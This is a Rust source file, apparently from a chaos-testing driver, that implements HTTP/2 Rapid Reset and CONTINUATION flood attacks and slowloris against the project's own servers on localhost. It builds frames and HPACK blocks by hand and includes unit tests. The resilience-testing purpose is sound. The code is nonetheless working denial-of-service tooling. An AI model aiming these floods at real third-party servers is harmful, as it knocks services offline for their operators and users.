//! Protocol attacks the chaos driver launches against oneword's own servers on 127.0.0.1:
//! HTTP/2 Rapid Reset and CONTINUATION floods against an h2c (gRPC) port, slowloris against the
//! HTTP/1.1 port. Each speaks the wire protocol by hand over bare TCP, because a conforming
//! client library refuses to produce exactly the abusive sequences these attacks are made of.
//! Each reports how the server reacted (GOAWAY, a close, or nothing) without judging it: what
//! counts as surviving an attack is the driver's decision.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use anyhow::{ensure, Context, Result};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt};
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::net::TcpStream;
use tokio::task::{JoinHandle, JoinSet};
use tokio::time::{sleep, sleep_until, timeout, timeout_at, Instant};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const GOAWAY: u8 = 0x7;
const CONTINUATION: u8 = 0x9;
const ACK: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
/// RST_STREAM's error code for "the client no longer wants this stream".
const CANCEL: u32 = 0x8;
/// Client stream ids are odd and below 2^31: one connection has room for this many.
const MAX_STREAMS: u64 = 1 << 30;
/// The smallest SETTINGS_MAX_FRAME_SIZE a server may announce: our frames stay within it so
/// that the server reacts to the attack, not to an oversized frame.
const MAX_FRAME: usize = 16_384;
/// HEADERS + RST_STREAM pairs per write, so that system calls don't bound the flood's rate.
const PAIRS_PER_WRITE: u64 = 256;
/// Each CONTINUATION frame's header value: about 1 KiB per frame.
const FLOOD_VALUE: usize = 1000;
/// How long the handshake or one write may stall before the attack stops waiting on the server.
const STALL: Duration = Duration::from_secs(10);
/// After the last frame, how long to keep listening for a GOAWAY or close already on its way.
const GRACE: Duration = Duration::from_secs(1);
/// GOAWAY's code as stored while none has arrived (real codes are 32-bit).
const NO_GOAWAY: u64 = u64::MAX;

/// How a flood on one connection ended.
#[derive(Debug, Clone)]
pub struct FloodReport {
    /// Streams opened and reset (rapid reset) or CONTINUATION frames written (continuation
    /// flood); a write that failed counts none of its frames.
    pub sent: u64,
    /// From the end of the handshake to the last frame written.
    pub elapsed: Duration,
    /// The server sent GOAWAY: its HTTP/2 error code (e.g. 0xb ENHANCE_YOUR_CALM,
    /// 0x1 PROTOCOL_ERROR, 0x0 NO_ERROR); of several, the last one naming an error.
    pub goaway: Option<u32>,
    /// The server closed the TCP connection (EOF or reset seen by the reader or a failed write).
    pub closed: bool,
}

/// HTTP/2 Rapid Reset (CVE-2023-44487): on ONE prior-knowledge h2c connection, opens `total`
/// streams as fast as it can for at most `within`, each a HEADERS frame for a gRPC POST to
/// `path` at once followed by RST_STREAM(CANCEL). A server that starts work for each cancelled
/// stream burns CPU without bound; one that defends itself sends GOAWAY or closes, which ends
/// the flood early.
pub async fn rapid_reset(
    addr: SocketAddr,
    path: &str,
    total: u64,
    within: Duration,
) -> Result<FloodReport> {
    ensure!(
        total <= MAX_STREAMS,
        "at most {MAX_STREAMS} streams fit one connection"
    );
    let block = request_block(path)?;
    let mut conn = H2::connect(addr).await?;
    let start = Instant::now();
    let deadline = after(start, within);
    let (mut sent, mut buf) = (0u64, Vec::new());
    while sent < total && Instant::now() < deadline && !conn.peer.ended() {
        let pairs = PAIRS_PER_WRITE.min(total - sent);
        buf.clear();
        for n in sent..sent + pairs {
            reset_stream(&mut buf, stream_id(n), &block);
        }
        if !conn.send(&buf, deadline).await {
            break;
        }
        sent += pairs;
    }
    Ok(conn.finish(sent, start.elapsed()).await)
}

/// CONTINUATION flood (CVE-2024-27316 class): on one h2c connection, a HEADERS frame for `path`
/// without END_HEADERS, then up to `frames` CONTINUATION frames of about 1 KiB of new literal
/// headers each, never ending the block. A server that buffers a header block until it ends
/// grows without bound; one that limits it sends GOAWAY or closes, which stops the flood.
pub async fn continuation_flood(addr: SocketAddr, path: &str, frames: u64) -> Result<FloodReport> {
    let block = request_block(path)?;
    let mut conn = H2::connect(addr).await?;
    let start = Instant::now();
    let (mut sent, mut buf) = (0u64, Vec::new());
    frame(&mut buf, HEADERS, 0, 1, &block);
    let value = vec![b'a'; FLOOD_VALUE];
    let mut more = conn.send(&buf, after(start, STALL)).await;
    while more && sent < frames && !conn.peer.ended() {
        let fragment = flood_fragment(sent, &value);
        buf.clear();
        frame(&mut buf, CONTINUATION, 0, 1, &fragment);
        more = conn.send(&buf, after(Instant::now(), STALL)).await;
        sent += u64::from(more);
    }
    Ok(conn.finish(sent, start.elapsed()).await)
}

/// What slow clients saw.
#[derive(Debug, Clone, Default)]
pub struct SlowlorisReport {
    pub connections: usize,
    /// Connections the server closed (EOF, reset, or an HTTP 408/400 response then close)
    /// within `hold`.
    pub closed: usize,
    /// The longest time from opening a connection to the server closing it (None if none
    /// closed): how long the server lets a client dawdle over its headers.
    pub slowest_close: Option<Duration>,
    /// Connections that could not even be opened (refused at accept: the cap), counted
    /// separately from `closed`.
    pub refused: usize,
    /// Why the first refused connection was refused, which tells the server's cap ("closed
    /// before the request") from this process's own limits (such as file descriptors).
    pub first_refusal: Option<String>,
}

/// Connections opened together before a pause: quick, but not one burst that overflows the
/// listen backlog and so measures the kernel instead of the server.
const CONNECT_BATCH: usize = 100;
const BATCH_PAUSE: Duration = Duration::from_millis(10);
/// A connection the server closes this soon, before we have written anything, was refused
/// by its connection cap (which closes at accept) rather than timed out.
const REFUSAL_WINDOW: Duration = Duration::from_millis(250);
const REQUEST_HEAD: &[u8] = b"POST /v1/completions HTTP/1.1\r\nHost: x\r\n";
const TRICKLE: &[u8] = b"X-a: b\r\n";

/// Slowloris on an HTTP/1.1 port: opens `connections` TCP connections in batches, each sending
/// a request line and one header, then one more header every `trickle`, never the blank line
/// that ends them. A server without a header-read timeout holds every such connection (a task
/// and a socket) for ever; one with it closes them. Watches until `hold` passes, then drops all.
pub async fn slowloris(
    addr: SocketAddr,
    connections: usize,
    trickle: Duration,
    hold: Duration,
) -> Result<SlowlorisReport> {
    let deadline = after(Instant::now(), hold);
    let trickle = trickle.max(Duration::from_millis(1));
    let mut clients = JoinSet::new();
    for n in 0..connections {
        if n > 0 && n % CONNECT_BATCH == 0 {
            sleep(BATCH_PAUSE).await;
        }
        clients.spawn(slow_client(addr, trickle, deadline));
    }
    let mut report = SlowlorisReport {
        connections,
        ..SlowlorisReport::default()
    };
    while let Some(outcome) = clients.join_next().await {
        match outcome.context("a slow client's task failed")? {
            Slow::Refused(why) => {
                report.refused += 1;
                report.first_refusal.get_or_insert(why);
            }
            Slow::Closed(took) => {
                report.closed += 1;
                report.slowest_close = report.slowest_close.max(Some(took));
            }
            Slow::Held => {}
        }
    }
    Ok(report)
}

/// How one slow client's connection ended.
enum Slow {
    Refused(String),
    /// The server closed it, this long after it was opened.
    Closed(Duration),
    /// Still open when the attack ended.
    Held,
}

/// One slow client: connects, checks the server didn't turn it away at once, then dawdles over
/// its headers until the server closes the connection or `deadline` passes.
async fn slow_client(addr: SocketAddr, trickle: Duration, deadline: Instant) -> Slow {
    let stream = match timeout_at(deadline, TcpStream::connect(addr)).await {
        Ok(Ok(stream)) => stream,
        Ok(Err(error)) => return Slow::Refused(format!("connecting failed: {error}")),
        Err(_) => return Slow::Refused("connecting did not finish in time".into()),
    };
    let opened = Instant::now();
    let (mut reader, mut writer) = stream.into_split();
    if timeout(REFUSAL_WINDOW, until_closed(&mut reader))
        .await
        .is_ok()
    {
        return Slow::Refused("closed before the request".into());
    }
    if let Err(error) = writer.write_all(REQUEST_HEAD).await {
        return Slow::Refused(format!("writing the request line failed: {error}"));
    }
    let closed = until_closed(&mut reader);
    tokio::pin!(closed);
    let mut next = Instant::now() + trickle;
    loop {
        tokio::select! {
            () = &mut closed => return Slow::Closed(opened.elapsed()),
            () = sleep_until(deadline) => return Slow::Held,
            () = sleep_until(next) => {
                if writer.write_all(TRICKLE).await.is_err() {
                    return Slow::Closed(opened.elapsed());
                }
                next += trickle;
            }
        }
    }
}

/// Reads until the server closes the connection (EOF or an error), passing over any response
/// it sends first, such as a 408.
async fn until_closed(reader: &mut OwnedReadHalf) {
    let mut buf = [0u8; 1024];
    while let Ok(n) = reader.read(&mut buf).await {
        if n == 0 {
            return;
        }
    }
}

/// `start + span`, or a year on where that overflows (a span meaning "for ever").
fn after(start: Instant, span: Duration) -> Instant {
    let year = Duration::from_secs(365 * 24 * 3600);
    start.checked_add(span).unwrap_or(start + year)
}

/// What the reader task has seen of the server, shared with the writer.
struct Peer {
    /// The GOAWAY code, or NO_GOAWAY.
    goaway: AtomicU64,
    closed: AtomicBool,
}

impl Peer {
    fn new() -> Peer {
        let (goaway, closed) = (AtomicU64::new(NO_GOAWAY), AtomicBool::new(false));
        Peer { goaway, closed }
    }

    /// Keeps the first GOAWAY unless a later one names an error: a graceful NO_ERROR GOAWAY
    /// is often followed by the one that says why the server gave up.
    fn record_goaway(&self, code: u32) {
        let keep = |old: u64| (old == NO_GOAWAY || code != 0).then_some(u64::from(code));
        let _ = self
            .goaway
            .fetch_update(Ordering::AcqRel, Ordering::Acquire, keep);
    }

    fn goaway(&self) -> Option<u32> {
        u32::try_from(self.goaway.load(Ordering::Acquire)).ok()
    }

    fn closed(&self) -> bool {
        self.closed.load(Ordering::Acquire)
    }

    /// Whether the server has stopped the attack, so that writing more measures nothing.
    fn ended(&self) -> bool {
        self.closed() || self.goaway().is_some()
    }
}

/// One prior-knowledge h2c connection past its SETTINGS exchange, with a task reading the
/// server's frames so that the server never blocks writing them.
struct H2 {
    writer: OwnedWriteHalf,
    peer: Arc<Peer>,
    reader: JoinHandle<()>,
}

impl H2 {
    async fn connect(addr: SocketAddr) -> Result<H2> {
        let mut stream = TcpStream::connect(addr)
            .await
            .with_context(|| format!("connecting to {addr}"))?;
        stream.set_nodelay(true).context("setting TCP_NODELAY")?;
        timeout(STALL, handshake(&mut stream))
            .await
            .with_context(|| format!("the HTTP/2 handshake with {addr} timed out"))??;
        let (reader, writer) = stream.into_split();
        let peer = Arc::new(Peer::new());
        let reader = tokio::spawn(watch(reader, peer.clone()));
        Ok(H2 {
            writer,
            peer,
            reader,
        })
    }

    /// Writes `bytes` by `by` (or within STALL); false when the attack should stop: a failed
    /// write (the server closed the connection) or a stalled one (it stopped reading).
    async fn send(&mut self, bytes: &[u8], by: Instant) -> bool {
        let by = by.min(after(Instant::now(), STALL));
        match timeout_at(by, self.writer.write_all(bytes)).await {
            Ok(Ok(())) => true,
            Ok(Err(_)) => {
                self.peer.closed.store(true, Ordering::Release);
                false
            }
            Err(_) => false,
        }
    }

    /// Listens a moment longer for a GOAWAY or close already on its way, then reports. The
    /// connection is dropped only after, so that our own close can't pass for the server's.
    async fn finish(mut self, sent: u64, elapsed: Duration) -> FloodReport {
        if timeout(GRACE, &mut self.reader).await.is_err() {
            self.reader.abort();
        }
        let (goaway, closed) = (self.peer.goaway(), self.peer.closed());
        FloodReport {
            sent,
            elapsed,
            goaway,
            closed,
        }
    }
}

/// Sends the client preface and an empty SETTINGS, then acknowledges the server's SETTINGS.
async fn handshake(stream: &mut TcpStream) -> Result<()> {
    let mut out = PREFACE.to_vec();
    frame(&mut out, SETTINGS, 0, 0, &[]);
    stream
        .write_all(&out)
        .await
        .context("writing the preface")?;
    let mut payload = Vec::new();
    loop {
        let head = read_frame(stream, &mut payload).await?;
        let head = head.context("the server closed the connection in the handshake")?;
        ensure!(
            head.kind != GOAWAY,
            "the server sent GOAWAY in the handshake"
        );
        if head.kind == SETTINGS && head.flags & ACK == 0 {
            break;
        }
    }
    out.clear();
    frame(&mut out, SETTINGS, ACK, 0, &[]);
    stream
        .write_all(&out)
        .await
        .context("acknowledging SETTINGS")
}

/// Reads the server's frames until it closes the connection, recording GOAWAY and the close.
/// It answers nothing (no PING, no SETTINGS ACK), as a flooding client wouldn't.
async fn watch(mut reader: OwnedReadHalf, peer: Arc<Peer>) {
    let mut payload = Vec::new();
    while let Ok(Some(head)) = read_frame(&mut reader, &mut payload).await {
        if let (GOAWAY, Some(code)) = (head.kind, payload.get(4..8)) {
            peer.record_goaway(u32::from_be_bytes([code[0], code[1], code[2], code[3]]));
        }
    }
    peer.closed.store(true, Ordering::Release);
}

/// A frame's 9-byte header (RFC 9113 §4.1), less the stream id nobody here needs.
#[derive(Debug, PartialEq)]
struct FrameHead {
    len: usize,
    kind: u8,
    flags: u8,
}

fn parse_head(b: &[u8; 9]) -> FrameHead {
    let len = u32::from_be_bytes([0, b[0], b[1], b[2]]) as usize;
    let (kind, flags) = (b[3], b[4]);
    FrameHead { len, kind, flags }
}

/// Reads one frame, its payload into `payload`; None at EOF before a frame header.
async fn read_frame<R>(reader: &mut R, payload: &mut Vec<u8>) -> Result<Option<FrameHead>>
where
    R: AsyncRead + Unpin,
{
    let mut bytes = [0u8; 9];
    match reader.read_exact(&mut bytes).await {
        Ok(_) => {}
        Err(e) if e.kind() == std::io::ErrorKind::UnexpectedEof => return Ok(None),
        Err(e) => return Err(e).context("reading a frame header"),
    }
    let head = parse_head(&bytes);
    payload.resize(head.len, 0);
    reader
        .read_exact(payload)
        .await
        .context("reading a frame")?;
    Ok(Some(head))
}

/// Appends a frame: 24-bit length, type, flags, 31-bit stream id, then `payload`, which
/// callers keep under 2^24 bytes.
fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    debug_assert!(payload.len() < 1 << 24, "a frame's length has 24 bits");
    out.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
}

/// The `n`th client stream's id: odd and increasing (RFC 9113 §5.1.1); below 2^31 as
/// n < MAX_STREAMS.
fn stream_id(n: u64) -> u32 {
    (2 * n + 1) as u32
}

/// A stream opened (HEADERS with END_HEADERS) and at once cancelled (RST_STREAM).
fn reset_stream(out: &mut Vec<u8>, id: u32, block: &[u8]) {
    frame(out, HEADERS, END_HEADERS, id, block);
    frame(out, RST_STREAM, 0, id, &CANCEL.to_be_bytes());
}

/// The HPACK block (no Huffman, no indexing) of a gRPC POST to `path`, within one frame.
fn request_block(path: &str) -> Result<Vec<u8>> {
    let mut block = vec![0x83, 0x86]; // :method POST, :scheme http (static entries 3 and 6)
    literal_indexed_name(&mut block, 4, path.as_bytes()); // :path
    literal_indexed_name(&mut block, 1, b"127.0.0.1"); // :authority
    literal_indexed_name(&mut block, 31, b"application/grpc"); // content-type
    literal_new_name(&mut block, b"te", b"trailers");
    ensure!(
        block.len() <= MAX_FRAME,
        "the path is too long for one frame"
    );
    Ok(block)
}

/// The `n`th CONTINUATION fragment: a header with a new name each time, so that the header
/// list the server assembles only grows.
fn flood_fragment(n: u64, value: &[u8]) -> Vec<u8> {
    let mut fragment = Vec::with_capacity(value.len() + 32);
    literal_new_name(&mut fragment, format!("x-flood-{n}").as_bytes(), value);
    fragment
}

/// A literal header field without indexing, named by a static-table index (RFC 7541 §6.2.2).
fn literal_indexed_name(out: &mut Vec<u8>, index: u64, value: &[u8]) {
    hpack_int(out, 4, 0x00, index);
    hpack_str(out, value);
}

/// A literal header field without indexing, with a new name (RFC 7541 §6.2.2).
fn literal_new_name(out: &mut Vec<u8>, name: &[u8], value: &[u8]) {
    out.push(0x00);
    hpack_str(out, name);
    hpack_str(out, value);
}

/// A string literal without Huffman coding (RFC 7541 §5.2).
fn hpack_str(out: &mut Vec<u8>, s: &[u8]) {
    hpack_int(out, 7, 0x00, s.len() as u64);
    out.extend_from_slice(s);
}

/// Appends `value` as an HPACK integer with a `prefix`-bit prefix (RFC 7541 §5.1); `pattern`
/// holds the representation's bits above the prefix.
fn hpack_int(out: &mut Vec<u8>, prefix: u32, pattern: u8, value: u64) {
    let max = (1u64 << prefix) - 1;
    if value < max {
        out.push(pattern | value as u8);
        return;
    }
    out.push(pattern | max as u8);
    let mut rest = value - max;
    while rest >= 0x80 {
        out.push(0x80 | (rest & 0x7f) as u8);
        rest >>= 7;
    }
    out.push(rest as u8);
}

#[cfg(test)]
mod tests {
    use super::*;

    fn int(prefix: u32, pattern: u8, value: u64) -> Vec<u8> {
        let mut out = Vec::new();
        hpack_int(&mut out, prefix, pattern, value);
        out
    }

    #[test]
    fn hpack_integers_match_rfc_7541_c1_and_the_prefix_boundary() {
        assert_eq!(int(5, 0, 10), [0x0a]);
        assert_eq!(int(5, 0, 1337), [0x1f, 0x9a, 0x0a]);
        assert_eq!(int(8, 0, 42), [0x2a]);
        assert_eq!(
            (int(4, 0, 14), int(4, 0, 15)),
            (vec![0x0e], vec![0x0f, 0x00])
        );
        assert_eq!(int(4, 0, 31), [0x0f, 0x10]);
        assert_eq!(int(7, 0, 1000), [0x7f, 0xe9, 0x06]);
        assert_eq!(int(5, 0xe0, 10), [0xea]);
    }

    #[test]
    fn frame_bytes() {
        let mut out = Vec::new();
        frame(&mut out, RST_STREAM, 0, 1, &CANCEL.to_be_bytes());
        assert_eq!(out, [0, 0, 4, 0x3, 0, 0, 0, 0, 1, 0, 0, 0, 8]);
        out.clear();
        frame(&mut out, HEADERS, END_HEADERS, 0x8000_0003, &[0; 300]);
        assert_eq!(
            (out[..9].to_vec(), out.len()),
            (vec![0, 1, 0x2c, 1, 4, 0, 0, 0, 3], 309)
        );
        let head: [u8; 9] = out[..9].try_into().expect("nine bytes");
        let (len, kind, flags) = (300, HEADERS, END_HEADERS);
        assert_eq!(parse_head(&head), FrameHead { len, kind, flags });
    }

    #[test]
    fn request_block_is_a_grpc_post() {
        let block = request_block("/a.B/C").expect("a short path fits");
        let mut expected = b"\x83\x86\x04\x06/a.B/C\x01\x09127.0.0.1".to_vec();
        expected.extend_from_slice(b"\x0f\x10\x10application/grpc\x00\x02te\x08trailers");
        assert_eq!(block, expected);
        assert!(request_block(&"/".repeat(MAX_FRAME)).is_err());
    }

    #[test]
    fn reset_pairs_use_odd_increasing_ids() {
        assert_eq!((stream_id(0), stream_id(1)), (1, 3));
        assert_eq!(stream_id(MAX_STREAMS - 1), 0x7fff_ffff);
        let mut out = Vec::new();
        reset_stream(&mut out, 5, b"xy");
        assert_eq!(out[..9], [0, 0, 2, 0x1, 0x4, 0, 0, 0, 5]);
        assert_eq!(out[11..], [0, 0, 4, 0x3, 0, 0, 0, 0, 5, 0, 0, 0, 8]);
    }

    #[test]
    fn flood_fragments_are_about_a_kib_with_new_names() {
        let fragment = flood_fragment(7, &[b'a'; FLOOD_VALUE]);
        assert!(fragment.starts_with(b"\x00\x09x-flood-7\x7f\xe9\x06a"));
        assert_eq!(fragment.len(), 14 + FLOOD_VALUE);
    }

    #[test]
    fn goaway_keeps_the_code_that_names_an_error() {
        let peer = Peer::new();
        assert_eq!(peer.goaway(), None);
        peer.record_goaway(0xb);
        peer.record_goaway(0x0);
        assert_eq!(peer.goaway(), Some(0xb));
        assert!(peer.ended());
    }
}
